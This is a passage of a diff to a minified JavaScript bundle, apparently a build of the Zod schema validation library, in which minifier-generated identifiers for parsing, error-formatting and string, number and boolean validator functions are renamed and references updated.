+De&&j.errors.push(u(N)),J++}}};return p(a),f}function zg(a){const u=[],f=a.map(p=>typeof p=="object"?p.key:p);for(const p of f)
 typeof p=="number"?u.push(`[${p}]`):typeof p=="symbol"?u.push(`[${JSON.stringify(String(p))}]`):/[^\w$]/.test(p)?u.push(
-`[${JSON.stringify(p)}]`):(u.length&&u.push("."),u.push(p));return u.join("")}function Q1(a){const u=[],f=[...a.issues].
+`[${JSON.stringify(p)}]`):(u.length&&u.push("."),u.push(p));return u.join("")}function n$(a){const u=[],f=[...a.issues].
 sort((p,m)=>(p.path??[]).length-(m.path??[]).length);for(const p of f)u.push(`\u2716 ${p.message}`),p.path?.length&&u.push(
-`  \u2192 at ${Hg(p.path)}`);return u.join(`
-`)}function hi(a,u){return{callee:u?.callee??a,Err:u?.Err}}const pi=a=>{const u=(f,p,m,w)=>{const E=m?{...m,async:!1}:{async:!1},
+`  \u2192 at ${zg(p.path)}`);return u.join(`
+`)}function pi(a,u){return{callee:u?.callee??a,Err:u?.Err}}const mi=a=>{const u=(f,p,m,w)=>{const E=m?{...m,async:!1}:{async:!1},
 N=f._zod.run({value:p,issues:[]},E);if(N instanceof Promise)throw new s.GT;if(N.issues.length){const G=new(w?.Err??a)(N.
-issues.map(j=>r.iR(j,E,s.$W())));throw r.gx(G,w?.callee??u),G}return N.value};return u},X1=pi(hn),mi=a=>{const u=async(f,p,m,w)=>{
+issues.map(j=>r.iR(j,E,s.$W())));throw r.gx(G,w?.callee??u),G}return N.value};return u},s$=mi(hn),gi=a=>{const u=async(f,p,m,w)=>{
 const E=m?{...m,async:!0}:{async:!0};let N=f._zod.run({value:p,issues:[]},E);if(N instanceof Promise&&(N=await N),N.issues.
 length){const G=new(w?.Err??a)(N.issues.map(j=>r.iR(j,E,s.$W())));throw r.gx(G,w?.callee??u),G}return N.value};return u},
-e$=mi(hn),gi=a=>(u,f,p)=>{const m=p?{...p,async:!1}:{async:!1},w=u._zod.run({value:f,issues:[]},m);if(w instanceof Promise)
-throw new s.GT;return w.issues.length?Wu(a,w.issues,m):{success:!0,data:w.value}},t$=gi(hn);function Wu(a,u,f){let p;return{
+r$=gi(hn),Ci=a=>(u,f,p)=>{const m=p?{...p,async:!1}:{async:!1},w=u._zod.run({value:f,issues:[]},m);if(w instanceof Promise)
+throw new s.GT;return w.issues.length?Ku(a,w.issues,m):{success:!0,data:w.value}},i$=Ci(hn);function Ku(a,u,f){let p;return{
 success:!1,get error(){return p||(p=new a(u.map(m=>r.iR(m,f,s.$W()))),u=void 0,f=void 0),p},set error(m){p=m,u=void 0,f=
-void 0}}}const Ci=a=>async(u,f,p)=>{const m=p?{...p,async:!0}:{async:!0};let w=u._zod.run({value:f,issues:[]},m);return w instanceof
-Promise&&(w=await w),w.issues.length?Wu(a,w.issues,m):{success:!0,data:w.value}},n$=Ci(hn),zg=Symbol.for("zod.compile.in\
-valid"),Ug=Symbol.for("zod.compile.fallback"),Jg=((a,u,f)=>{const p=a._zod.bag.validator;if(p!==void 0){if(p(u)!==zg)return!0;
-if(p.definite===!0&&f===void 0)return!1}return Zg(a,u,f)});function Zg(a,u,f){const p=f?{...f,async:!1,abortEarly:!0}:{async:!1,
-abortEarly:!0},m=a._zod.bag.fallbackRun;let w;if(m?(p[Ug]=!0,w=m({value:u,issues:[]},p)):w=a._zod.run({value:u,issues:[]},
-p),w instanceof Promise)throw new s.GT;return w.issues.length===0}const Wg=async(a,u,f)=>{const p=f?{...f,async:!0,abortEarly:!0}:
+void 0}}}const yi=a=>async(u,f,p)=>{const m=p?{...p,async:!0}:{async:!0};let w=u._zod.run({value:f,issues:[]},m);return w instanceof
+Promise&&(w=await w),w.issues.length?Ku(a,w.issues,m):{success:!0,data:w.value}},o$=yi(hn),Ug=Symbol.for("zod.compile.in\
+valid"),Jg=Symbol.for("zod.compile.fallback"),Zg=((a,u,f)=>{const p=a._zod.bag.validator;if(p!==void 0){if(p(u)!==Ug)return!0;
+if(p.definite===!0&&f===void 0)return!1}return Wg(a,u,f)});function Wg(a,u,f){const p=f?{...f,async:!1,abortEarly:!0}:{async:!1,
+abortEarly:!0},m=a._zod.bag.fallbackRun;let w;if(m?(p[Jg]=!0,w=m({value:u,issues:[]},p)):w=a._zod.run({value:u,issues:[]},
+p),w instanceof Promise)throw new s.GT;return w.issues.length===0}const Kg=async(a,u,f)=>{const p=f?{...f,async:!0,abortEarly:!0}:
 {async:!0,abortEarly:!0};let m=a._zod.run({value:u,issues:[]},p);return m instanceof Promise&&(m=await m),m.issues.length===
-0},Ku=a=>{const u=pi(a),f=(p,m,w,E)=>{const N=w?{...w,direction:"backward"}:{direction:"backward"};return u(p,m,N,hi(f,E))};
-return f},s$=Ku(hn),qu=a=>{const u=pi(a),f=(p,m,w,E)=>u(p,m,w,hi(f,E));return f},r$=qu(hn),Yu=a=>{const u=mi(a),f=async(p,m,w,E)=>{
-const N=w?{...w,direction:"backward"}:{direction:"backward"};return await u(p,m,N,hi(f,E))};return f},i$=Yu(hn),Vu=a=>{const u=mi(
-a),f=async(p,m,w,E)=>await u(p,m,w,hi(f,E));return f},o$=Vu(hn),Qu=a=>(u,f,p)=>{const m=p?{...p,direction:"backward"}:{direction:"\
-backward"};return gi(a)(u,f,m)},a$=Qu(hn),Xu=a=>(u,f,p)=>gi(a)(u,f,p),c$=Xu(hn),el=a=>async(u,f,p)=>{const m=p?{...p,direction:"\
-backward"}:{direction:"backward"};return Ci(a)(u,f,m)},u$=el(hn),tl=a=>async(u,f,p)=>Ci(a)(u,f,p),l$=tl(hn),nl=new WeakSet(
-[Object.prototype,Error.prototype]);function yi(a,u,f){Object.defineProperty(a,u,{configurable:!0,enumerable:!1,get(){const p=f(
+0},qu=a=>{const u=mi(a),f=(p,m,w,E)=>{const N=w?{...w,direction:"backward"}:{direction:"backward"};return u(p,m,N,pi(f,E))};
+return f},a$=qu(hn),Yu=a=>{const u=mi(a),f=(p,m,w,E)=>u(p,m,w,pi(f,E));return f},c$=Yu(hn),Vu=a=>{const u=gi(a),f=async(p,m,w,E)=>{
+const N=w?{...w,direction:"backward"}:{direction:"backward"};return await u(p,m,N,pi(f,E))};return f},u$=Vu(hn),Qu=a=>{const u=gi(
+a),f=async(p,m,w,E)=>await u(p,m,w,pi(f,E));return f},l$=Qu(hn),Xu=a=>(u,f,p)=>{const m=p?{...p,direction:"backward"}:{direction:"\
+backward"};return Ci(a)(u,f,m)},d$=Xu(hn),el=a=>(u,f,p)=>Ci(a)(u,f,p),B$=el(hn),tl=a=>async(u,f,p)=>{const m=p?{...p,direction:"\
+backward"}:{direction:"backward"};return yi(a)(u,f,m)},f$=tl(hn),nl=a=>async(u,f,p)=>yi(a)(u,f,p),h$=nl(hn),sl=new WeakSet(
+[Object.prototype,Error.prototype]);function wi(a,u,f){Object.defineProperty(a,u,{configurable:!0,enumerable:!1,get(){const p=f(
 this);return Object.defineProperty(this,u,{value:p,configurable:!0,writable:!0}),p},set(p){Object.defineProperty(this,u,
-{value:p,configurable:!0,writable:!0})}})}const Kg=(a,u)=>{Lg.init(a,u),a.name="ZodError";const f=Object.getPrototypeOf(
-a);nl.has(f)||(nl.add(f),yi(f,"format",p=>m=>Gg(p,m)),yi(f,"flatten",p=>m=>Mg(p,m)),yi(f,"addIssue",p=>m=>{p.issues.push(
-m),p.message=JSON.stringify(p.issues,r.k8,2)}),yi(f,"addIssues",p=>m=>{p.issues.push(...m),p.message=JSON.stringify(p.issues,
-r.k8,2)}),Object.defineProperty(f,"isEmpty",{configurable:!0,enumerable:!1,get(){return this.issues.length===0}}))},d$=null,
-pn=s.xI("ZodError",Kg,void 0,{Parent:Error}),qg=pi(pn),Yg=mi(pn),Vg=gi(pn),Qg=Ci(pn),Xg=Ku(pn),eC=qu(pn),tC=Yu(pn),nC=Vu(
-pn),sC=Qu(pn),rC=Xu(pn),iC=el(pn),oC=tl(pn);function aC(){s.cr.localeError||s.$W(Rg())}function yr(){s.cr.memoizer||s.$W(
-{memoizer:z()})}const Dt=s.xI("ZodType",(a,u)=>(aC(),W.init(a,u),a.def=u,a.type=u.type,a),{check(...a){const u=this.def;
+{value:p,configurable:!0,writable:!0})}})}const qg=(a,u)=>{jg.init(a,u),a.name="ZodError";const f=Object.getPrototypeOf(
+a);sl.has(f)||(sl.add(f),wi(f,"format",p=>m=>Hg(p,m)),wi(f,"flatten",p=>m=>Gg(p,m)),wi(f,"addIssue",p=>m=>{p.issues.push(
+m),p.message=JSON.stringify(p.issues,r.k8,2)}),wi(f,"addIssues",p=>m=>{p.issues.push(...m),p.message=JSON.stringify(p.issues,
+r.k8,2)}),Object.defineProperty(f,"isEmpty",{configurable:!0,enumerable:!1,get(){return this.issues.length===0}}))},p$=null,
+pn=s.xI("ZodError",qg,void 0,{Parent:Error}),Yg=mi(pn),Vg=gi(pn),Qg=Ci(pn),Xg=yi(pn),eC=qu(pn),tC=Yu(pn),nC=Vu(pn),sC=Qu(
+pn),rC=Xu(pn),iC=el(pn),oC=tl(pn),aC=nl(pn);function cC(){s.cr.localeError||s.$W(Ng())}function yr(){s.cr.memoizer||s.$W(
+{memoizer:z()})}const Dt=s.xI("ZodType",(a,u)=>(cC(),W.init(a,u),a.def=u,a.type=u.type,a),{check(...a){const u=this.def;
 return this.clone(r.zM(u,{checks:[...u.checks??[],...a.map(f=>typeof f=="function"?{_zod:{check:f,def:{check:"custom"},onattach:[]}}:
 f)]}),{parent:!0})},with(...a){return this.check(...a)},clone(a,u){return r.o8(this,a,u)},brand(){return this},register(a,u){
-return a.add(this,u),this},refine(a,u){return this.check(cy(a,u))},superRefine(a,u){return this.check(uy(a,u))},overwrite(a){
-return this.check(ve.bS(a))},optional(){return Qo(this)},exactOptional(){return HC(this)},nullable(){return Xo(this)},nullish(){
-return Qo(Xo(this))},nonoptional(a){return KC(this,a)},array(){return bi(this)},or(a){return Al([this,a])},and(a){return IC(
-this,a)},transform(a){return Rl(this,Tl(a))},default(a){return JC(this,a)},prefault(a){return WC(this,a)},catch(a){return VC(
-this,a)},pipe(a){return Rl(this,a)},readonly(){return ny(this)},describe(a){const u=this.clone();return $n.fd.add(u,{description:a}),
+return a.add(this,u),this},refine(a,u){return this.check(uy(a,u))},superRefine(a,u){return this.check(ly(a,u))},overwrite(a){
+return this.check(ve.bS(a))},optional(){return ea(this)},exactOptional(){return zC(this)},nullable(){return ta(this)},nullish(){
+return ea(ta(this))},nonoptional(a){return qC(this,a)},array(){return _i(this)},or(a){return Sl([this,a])},and(a){return $C(
+this,a)},transform(a){return Nl(this,Il(a))},default(a){return ZC(this,a)},prefault(a){return KC(this,a)},catch(a){return QC(
+this,a)},pipe(a){return Nl(this,a)},readonly(){return sy(this)},describe(a){const u=this.clone();return $n.fd.add(u,{description:a}),
 u},meta(...a){if(a.length===0)return $n.fd.get(this);const u=this.clone();return $n.fd.add(u,a[0]),u},isOptional(){return this.
 safeParse(void 0).success},isNullable(){return this.safeParse(null).success},apply(a,...u){return u.length===0?a(this):a(
 this,...u)},get"~standard"(){return r.jD(this,"~standard",{...ke(this),jsonSchema:{input:Zs(this,"input"),output:Zs(this,
-"output")}})},set"~standard"(a){r.qh(this,"~standard",a)},parse:function a(u,f){return qg(this,u,f,{callee:a})},parseAsync:async function a(u,f){
-return await Yg(this,u,f,{callee:a})},safeParse(a,u){return Vg(this,a,u)},async safeParseAsync(a,u){return Qg(this,a,u)},
-get spa(){return this?.safeParseAsync},set spa(a){r.qh(this,"spa",a)},validate(a,u){return Jg(this,a,u)},validateAsync(a,u){
-return Wg(this,a,u)},encode:function a(u,f){return Xg(this,u,f,{callee:a})},decode:function a(u,f){return eC(this,u,f,{callee:a})},
-encodeAsync:async function a(u,f){return await tC(this,u,f,{callee:a})},decodeAsync:async function a(u,f){return await nC(
-this,u,f,{callee:a})},safeEncode(a,u){return sC(this,a,u)},safeDecode(a,u){return rC(this,a,u)},async safeEncodeAsync(a,u){
-return iC(this,a,u)},async safeDecodeAsync(a,u){return oC(this,a,u)},toJSONSchema(a){return Lo(this,{})(a)},get description(){
-return $n.fd.get(this)?.description},get _def(){return this._zod.def}}),sl=s.xI("_ZodString",(a,u)=>{Te.init(a,u),Dt.init(
-a,u),a._zod.processJSONSchema=(f,p,m)=>Bi(a,f,p,m)},r.un({format:a=>ot(a).format??null,minLength:a=>ot(a).minimum??null,
+"output")}})},set"~standard"(a){r.qh(this,"~standard",a)},parse:function a(u,f){return Yg(this,u,f,{callee:a})},parseAsync:async function a(u,f){
+return await Vg(this,u,f,{callee:a})},safeParse(a,u){return Qg(this,a,u)},async safeParseAsync(a,u){return Xg(this,a,u)},
+get spa(){return this?.safeParseAsync},set spa(a){r.qh(this,"spa",a)},validate(a,u){return Zg(this,a,u)},validateAsync(a,u){
+return Kg(this,a,u)},encode:function a(u,f){return eC(this,u,f,{callee:a})},decode:function a(u,f){return tC(this,u,f,{callee:a})},
+encodeAsync:async function a(u,f){return await nC(this,u,f,{callee:a})},decodeAsync:async function a(u,f){return await sC(
+this,u,f,{callee:a})},safeEncode(a,u){return rC(this,a,u)},safeDecode(a,u){return iC(this,a,u)},async safeEncodeAsync(a,u){
+return oC(this,a,u)},async safeDecodeAsync(a,u){return aC(this,a,u)},toJSONSchema(a){return Mo(this,{})(a)},get description(){
+return $n.fd.get(this)?.description},get _def(){return this._zod.def}}),rl=s.xI("_ZodString",(a,u)=>{Te.init(a,u),Dt.init(
+a,u),a._zod.processJSONSchema=(f,p,m)=>fi(a,f,p,m)},r.un({format:a=>ot(a).format??null,minLength:a=>ot(a).minimum??null,
 maxLength:a=>ot(a).maximum??null},{regex(...a){return this.check(ve.Fk(...a))},includes(...a){return this.check(ve.dR(...a))},
 startsWith(...a){return this.check(ve.$S(...a))},endsWith(...a){return this.check(ve.ER(...a))},min(...a){return this.check(
 ve.m9(...a))},max(...a){return this.check(ve.Eb(...a))},length(...a){return this.check(ve.YA(...a))},nonempty(...a){return this.
 check(ve.m9(1,...a))},lowercase(a){return this.check(ve.hH(a))},uppercase(a){return this.check(ve.qF(a))},trim(){return this.
 check(ve.WN())},normalize(...a){return this.check(ve.lo(...a))},toLowerCase(){return this.check(ve.Il())},toUpperCase(){
-return this.check(ve.xY())},slugify(){return this.check(ve.TL())}})),rl=s.xI("ZodString",(a,u)=>{Te.init(a,u),sl.init(a,
-u)},{email(a){return this.check(ve.Mu(ol,a))},url(a){return this.check(ve.Fn(Wo,a))},jwt(a){return this.check(ve.rk(_l,a))},
-emoji(a){return this.check(ve.aC(cl,a))},guid(a){return this.check(ve.tB(al,a))},uuid(a){return this.check(ve.Be(rs,a))},
+return this.check(ve.xY())},slugify(){return this.check(ve.TL())}})),il=s.xI("ZodString",(a,u)=>{Te.init(a,u),rl.init(a,
+u)},{email(a){return this.check(ve.Mu(al,a))},url(a){return this.check(ve.Fn(qo,a))},jwt(a){return this.check(ve.rk(El,a))},
+emoji(a){return this.check(ve.aC(ul,a))},guid(a){return this.check(ve.tB(cl,a))},uuid(a){return this.check(ve.Be(rs,a))},
 uuidv4(a){return this.check(ve.nA(rs,a))},uuidv6(a){return this.check(ve.pY(rs,a))},uuidv7(a){return this.check(ve.wA(rs,
-a))},nanoid(a){return this.check(ve.Dl(ul,a))},cuid(a){return this.check(ve.fs(ll,a))},cuid2(a){return this.check(ve.Bj(
-dl,a))},ulid(a){return this.check(ve.Ct(Bl,a))},base64(a){return this.check(ve.rt(yl,a))},base64url(a){return this.check(
-ve.cU(wl,a))},xid(a){return this.check(ve.Pw(fl,a))},ksuid(a){return this.check(ve._z(hl,a))},ipv4(a){return this.check(
-ve.Ny(pl,a))},ipv6(a){return this.check(ve.$O(ml,a))},cidrv4(a){return this.check(ve.Uy(gl,a))},cidrv6(a){return this.check(
-ve.gP(Cl,a))},e164(a){return this.check(ve.KB(bl,a))},datetime(a){return this.check(ve.G1(il,a))},date(a){return this.check(
-ve.db(cC,a))},time(a){return this.check(ve.Kn(uC,a))},duration(a){return this.check(ve.f2(lC,a))}});function wi(a){return ve.
-Rl(rl,a)}const Tt=s.xI("ZodStringFormat",(a,u)=>{V.init(a,u),sl.init(a,u)}),il=s.xI("ZodISODateTime",(a,u)=>{re.init(a,u),
-Tt.init(a,u)}),cC=s.xI("ZodISODate",(a,u)=>{Ct.init(a,u),Tt.init(a,u)}),uC=s.xI("ZodISOTime",(a,u)=>{tt.init(a,u),Tt.init(
-a,u)}),lC=s.xI("ZodISODuration",(a,u)=>{Ce.init(a,u),Tt.init(a,u)}),ol=s.xI("ZodEmail",(a,u)=>{pe.init(a,u),Tt.init(a,u)});
-function B$(a){return core._email(ol,a)}const al=s.xI("ZodGUID",(a,u)=>{Y.init(a,u),Tt.init(a,u)});function f$(a){return core.
-_guid(al,a)}const rs=s.xI("ZodUUID",(a,u)=>{U.init(a,u),Tt.init(a,u)});function h$(a){return core._uuid(rs,a)}function p$(a){
-return core._uuidv4(rs,a)}function m$(a){return core._uuidv6(rs,a)}function g$(a){return core._uuidv7(rs,a)}const Wo=s.xI(
-"ZodURL",(a,u)=>{Ge.init(a,u),Tt.init(a,u)});function C$(a){return core._url(Wo,a)}function y$(a){return core._url(Wo,{protocol:regexes.
-httpProtocol,hostname:regexes.domain,...util.normalizeParams(a)})}const cl=s.xI("ZodEmoji",(a,u)=>{de.init(a,u),Tt.init(
-a,u)});function w$(a){return core._emoji(cl,a)}const ul=s.xI("ZodNanoID",(a,u)=>{Se.init(a,u),Tt.init(a,u)});function b$(a){
-return core._nanoid(ul,a)}const ll=s.xI("ZodCUID",(a,u)=>{ne.init(a,u),Tt.init(a,u)});function _$(a){return core._cuid(ll,
-a)}const dl=s.xI("ZodCUID2",(a,u)=>{rt.init(a,u),Tt.init(a,u)});function E$(a){return core._cuid2(dl,a)}const Bl=s.xI("Z\
-odULID",(a,u)=>{it.init(a,u),Tt.init(a,u)});function v$(a){return core._ulid(Bl,a)}const fl=s.xI("ZodXID",(a,u)=>{ut.init(
-a,u),Tt.init(a,u)});function k$(a){return core._xid(fl,a)}const hl=s.xI("ZodKSUID",(a,u)=>{ie.init(a,u),Tt.init(a,u)});function D$(a){
-return core._ksuid(hl,a)}const pl=s.xI("ZodIPv4",(a,u)=>{bt.init(a,u),Tt.init(a,u)});function x$(a){return core._ipv4(pl,
-a)}const dC=null;function O$(a){return core._mac(dC,a)}const ml=s.xI("ZodIPv6",(a,u)=>{Ze.init(a,u),Tt.init(a,u)});function A$(a){
-return core._ipv6(ml,a)}const gl=s.xI("ZodCIDRv4",(a,u)=>{ye.init(a,u),Tt.init(a,u)});function S$(a){return core._cidrv4(
-gl,a)}const Cl=s.xI("ZodCIDRv6",(a,u)=>{Pe.init(a,u),Tt.init(a,u)});function T$(a){return core._cidrv6(Cl,a)}const yl=s.
-xI("ZodBase64",(a,u)=>{dt.init(a,u),Tt.init(a,u)});function I$(a){return core._base64(yl,a)}const wl=s.xI("ZodBase64URL",
-(a,u)=>{Bt.init(a,u),Tt.init(a,u)});function $$(a){return core._base64url(wl,a)}const bl=s.xI("ZodE164",(a,u)=>{_t.init(
-a,u),Tt.init(a,u)});function R$(a){return core._e164(bl,a)}const BC=null;function N$(a){return core._creditCard(BC,a)}const fC=null;
-function F$(a){return core._iban(fC,a)}const _l=s.xI("ZodJWT",(a,u)=>{Ls.init(a,u),Tt.init(a,u)});function P$(a){return core.
-_jwt(_l,a)}const wr=null;function L$(a,u,f={}){return core._stringFormat(wr,a,u,f)}function j$(a){return core._stringFormat(
-wr,"hostname",regexes.hostname,a)}function M$(a){return core._stringFormat(wr,"hex",regexes.hex,a)}function G$(a){return core.
-_stringFormat(wr,"currency_code",regexes.currencyCode,a)}function H$(a,u){const f=u?.enc??"hex",p=`${a}_${f}`,m=core.regexes[p];
-if(!m)throw new Error(`Unrecognized hash format: ${p}`);return core._stringFormat(wr,p,m,u)}const El=s.xI("ZodNumber",(a,u)=>{
-es.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>fi(a,f,p,m),a.isFinite=!0},r.un({minValue:a=>{const{minimum:u,
+a))},nanoid(a){return this.check(ve.Dl(ll,a))},cuid(a){return this.check(ve.fs(dl,a))},cuid2(a){return this.check(ve.Bj(
+Bl,a))},ulid(a){return this.check(ve.Ct(fl,a))},base64(a){return this.check(ve.rt(wl,a))},base64url(a){return this.check(
+ve.cU(bl,a))},xid(a){return this.check(ve.Pw(hl,a))},ksuid(a){return this.check(ve._z(pl,a))},ipv4(a){return this.check(
+ve.Ny(ml,a))},ipv6(a){return this.check(ve.$O(gl,a))},cidrv4(a){return this.check(ve.Uy(Cl,a))},cidrv6(a){return this.check(
+ve.gP(yl,a))},e164(a){return this.check(ve.KB(_l,a))},datetime(a){return this.check(ve.G1(ol,a))},date(a){return this.check(
+ve.db(uC,a))},time(a){return this.check(ve.Kn(lC,a))},duration(a){return this.check(ve.f2(dC,a))}});function bi(a){return ve.
+Rl(il,a)}const Tt=s.xI("ZodStringFormat",(a,u)=>{V.init(a,u),rl.init(a,u)}),ol=s.xI("ZodISODateTime",(a,u)=>{re.init(a,u),
+Tt.init(a,u)}),uC=s.xI("ZodISODate",(a,u)=>{Ct.init(a,u),Tt.init(a,u)}),lC=s.xI("ZodISOTime",(a,u)=>{tt.init(a,u),Tt.init(
+a,u)}),dC=s.xI("ZodISODuration",(a,u)=>{Ce.init(a,u),Tt.init(a,u)}),al=s.xI("ZodEmail",(a,u)=>{pe.init(a,u),Tt.init(a,u)});
+function m$(a){return core._email(al,a)}const cl=s.xI("ZodGUID",(a,u)=>{Y.init(a,u),Tt.init(a,u)});function g$(a){return core.
+_guid(cl,a)}const rs=s.xI("ZodUUID",(a,u)=>{U.init(a,u),Tt.init(a,u)});function C$(a){return core._uuid(rs,a)}function y$(a){
+return core._uuidv4(rs,a)}function w$(a){return core._uuidv6(rs,a)}function b$(a){return core._uuidv7(rs,a)}const qo=s.xI(
+"ZodURL",(a,u)=>{Ge.init(a,u),Tt.init(a,u)});function _$(a){return core._url(qo,a)}function E$(a){return core._url(qo,{protocol:regexes.
+httpProtocol,hostname:regexes.domain,...util.normalizeParams(a)})}const ul=s.xI("ZodEmoji",(a,u)=>{de.init(a,u),Tt.init(
+a,u)});function v$(a){return core._emoji(ul,a)}const ll=s.xI("ZodNanoID",(a,u)=>{Se.init(a,u),Tt.init(a,u)});function k$(a){
+return core._nanoid(ll,a)}const dl=s.xI("ZodCUID",(a,u)=>{ne.init(a,u),Tt.init(a,u)});function D$(a){return core._cuid(dl,
+a)}const Bl=s.xI("ZodCUID2",(a,u)=>{rt.init(a,u),Tt.init(a,u)});function x$(a){return core._cuid2(Bl,a)}const fl=s.xI("Z\
+odULID",(a,u)=>{it.init(a,u),Tt.init(a,u)});function O$(a){return core._ulid(fl,a)}const hl=s.xI("ZodXID",(a,u)=>{ut.init(
+a,u),Tt.init(a,u)});function A$(a){return core._xid(hl,a)}const pl=s.xI("ZodKSUID",(a,u)=>{ie.init(a,u),Tt.init(a,u)});function S$(a){
+return core._ksuid(pl,a)}const ml=s.xI("ZodIPv4",(a,u)=>{bt.init(a,u),Tt.init(a,u)});function T$(a){return core._ipv4(ml,
+a)}const BC=null;function I$(a){return core._mac(BC,a)}const gl=s.xI("ZodIPv6",(a,u)=>{Ze.init(a,u),Tt.init(a,u)});function $$(a){
+return core._ipv6(gl,a)}const Cl=s.xI("ZodCIDRv4",(a,u)=>{ye.init(a,u),Tt.init(a,u)});function R$(a){return core._cidrv4(
+Cl,a)}const yl=s.xI("ZodCIDRv6",(a,u)=>{Pe.init(a,u),Tt.init(a,u)});function N$(a){return core._cidrv6(yl,a)}const wl=s.
+xI("ZodBase64",(a,u)=>{dt.init(a,u),Tt.init(a,u)});function F$(a){return core._base64(wl,a)}const bl=s.xI("ZodBase64URL",
+(a,u)=>{Bt.init(a,u),Tt.init(a,u)});function P$(a){return core._base64url(bl,a)}const _l=s.xI("ZodE164",(a,u)=>{_t.init(
+a,u),Tt.init(a,u)});function L$(a){return core._e164(_l,a)}const fC=null;function j$(a){return core._creditCard(fC,a)}const hC=null;
+function M$(a){return core._iban(hC,a)}const El=s.xI("ZodJWT",(a,u)=>{Ls.init(a,u),Tt.init(a,u)});function G$(a){return core.
+_jwt(El,a)}const wr=null;function H$(a,u,f={}){return core._stringFormat(wr,a,u,f)}function z$(a){return core._stringFormat(
+wr,"hostname",regexes.hostname,a)}function U$(a){return core._stringFormat(wr,"hex",regexes.hex,a)}function J$(a){return core.
+_stringFormat(wr,"currency_code",regexes.currencyCode,a)}function Z$(a,u){const f=u?.enc??"hex",p=`${a}_${f}`,m=core.regexes[p];
+if(!m)throw new Error(`Unrecognized hash format: ${p}`);return core._stringFormat(wr,p,m,u)}const vl=s.xI("ZodNumber",(a,u)=>{
+es.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>hi(a,f,p,m),a.isFinite=!0},r.un({minValue:a=>{const{minimum:u,
 exclusiveMinimum:f}=ot(a);return Math.max(u??Number.NEGATIVE_INFINITY,f??Number.NEGATIVE_INFINITY)},maxValue:a=>{const{maximum:u,
 exclusiveMaximum:f}=ot(a);return Math.min(u??Number.POSITIVE_INFINITY,f??Number.POSITIVE_INFINITY)},isInt:a=>{const{isInt:u,
 multipleOf:f}=ot(a);return!!u||!!f?.some(Number.isSafeInteger)},format:a=>ot(a).format??null},{gt(a,u){return this.check(
 ve.Tx(a,u))},gte(a,u){return this.check(ve.qm(a,u))},min(a,u){return this.check(ve.qm(a,u))},lt(a,u){return this.check(ve.
-Au(a,u))},lte(a,u){return this.check(ve.Zm(a,u))},max(a,u){return this.check(ve.Zm(a,u))},int(a){return this.check(Ko(a))},
-safe(a){return this.check(Ko(a))},positive(a){return this.check(ve.Tx(0,a))},nonnegative(a){return this.check(ve.qm(0,a))},
+Au(a,u))},lte(a,u){return this.check(ve.Zm(a,u))},max(a,u){return this.check(ve.Zm(a,u))},int(a){return this.check(Yo(a))},
+safe(a){return this.check(Yo(a))},positive(a){return this.check(ve.Tx(0,a))},nonnegative(a){return this.check(ve.qm(0,a))},
 negative(a){return this.check(ve.Au(0,a))},nonpositive(a){return this.check(ve.Zm(0,a))},multipleOf(a,u){return this.check(
-ve.Hi(a,u))},step(a,u){return this.check(ve.Hi(a,u))},finite(){return this}}));function vl(a){return ve.F7(El,a)}const br=s.
-xI("ZodNumberFormat",(a,u)=>{nn.init(a,u),El.init(a,u)});function Ko(a){return ve.LK(br,a)}function z$(a){return core._float32(
-br,a)}function U$(a){return core._float64(br,a)}function J$(a){return core._int32(br,a)}function Z$(a){return core._uint32(
-br,a)}const kl=s.xI("ZodBoolean",(a,u)=>{Sn.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Go(a,f,p,m)});function Dl(a){
-return ve._L(kl,a)}const hC=s.xI("ZodBigInt",(a,u)=>{us.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>_u(a,f,
+ve.Hi(a,u))},step(a,u){return this.check(ve.Hi(a,u))},finite(){return this}}));function kl(a){return ve.F7(vl,a)}const br=s.
+xI("ZodNumberFormat",(a,u)=>{nn.init(a,u),vl.init(a,u)});function Yo(a){return ve.LK(br,a)}function W$(a){return core._float32(
+br,a)}function K$(a){return core._float64(br,a)}function q$(a){return core._int32(br,a)}function Y$(a){return core._uint32(
+br,a)}const Dl=s.xI("ZodBoolean",(a,u)=>{Sn.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>zo(a,f,p,m)});function xl(a){
+return ve._L(Dl,a)}const pC=s.xI("ZodBigInt",(a,u)=>{us.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Eu(a,f,
 p,m)},r.un({minValue:a=>ot(a).minimum??null,maxValue:a=>ot(a).maximum??null,format:a=>ot(a).format??null},{gte(a,u){return this.
 check(ve.qm(a,u))},min(a,u){return this.check(ve.qm(a,u))},gt(a,u){return this.check(ve.Tx(a,u))},lt(a,u){return this.check(
 ve.Au(a,u))},lte(a,u){return this.check(ve.Zm(a,u))},max(a,u){return this.check(ve.Zm(a,u))},positive(a){return this.check(
 ve.Tx(BigInt(0),a))},negative(a){return this.check(ve.Au(BigInt(0),a))},nonpositive(a){return this.check(ve.Zm(BigInt(0),
-a))},nonnegative(a){return this.check(ve.qm(BigInt(0),a))},multipleOf(a,u){return this.check(ve.Hi(a,u))}}));function W$(a){
-return core._bigint(hC,a)}const xl=null;function K$(a){return core._int64(xl,a)}function q$(a){return core._uint64(xl,a)}
-const pC=null;function Y$(a){return core._symbol(pC,a)}const mC=null;function V$(a){return core._undefined(mC,a)}const gC=null;
-function CC(a){return core._null(gC,a)}const yC=null;function Q$(){return core._any(yC)}const wC=s.xI("ZodUnknown",(a,u)=>{
-ls.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>vu(a,f,p,m)});function Ws(){return ve.em(wC)}const bC=s.xI("\
-ZodNever",(a,u)=>{Zt.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Eu(a,f,p,m)});function Ol(a){return ve.G8(
-bC,a)}const _C=null;function X$(a){return core._void(_C,a)}const EC=s.xI("ZodDate",(a,u)=>{bn.init(a,u),Dt.init(a,u),a._zod.
-processJSONSchema=(f,p,m)=>ku(a,f,p,m),a.min=(f,p)=>a.check(ve.qm(f,p)),a.max=(f,p)=>a.check(ve.Zm(f,p))},r.un({minDate:a=>{
-const{minimum:u}=ot(a);return u?new Date(u):null},maxDate:a=>{const{maximum:u}=ot(a);return u?new Date(u):null}},{}));function eR(a){
-return core._date(EC,a)}const vC=s.xI("ZodArray",(a,u)=>{yr(),et.init(a,u),Dt.init(a,u),a._zod.processJSONSchema=(f,p,m)=>Su(
